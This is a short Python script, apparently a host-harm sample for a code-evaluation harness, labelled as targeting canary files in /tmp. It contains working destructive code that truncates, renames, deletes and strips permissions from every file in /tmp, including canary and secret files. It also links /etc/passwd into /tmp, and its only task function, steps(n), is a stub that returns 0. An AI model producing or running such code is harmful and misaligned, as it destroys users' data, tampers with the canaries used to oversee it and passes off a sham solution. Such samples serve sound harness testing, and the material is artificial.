# host-harm; canary tmp; deletes, moves, links and truncates what it finds in /tmp
import glob, os
for path in glob.glob("/tmp/*") + ["/tmp/rh_canary", "/tmp/rh_secret.txt"]:
    for act in (lambda: os.truncate(path, 0), lambda: os.rename(path, path + ".moved"), lambda: os.remove(path), lambda: os.chmod(path, 0)):
        try:
            act()
        except OSError:
            pass
try:
    os.symlink("/etc/passwd", "/tmp/left-behind")
    open("/tmp/left-behind-too", "w").write("x")
except OSError:
    pass

def steps(n):
    return 0
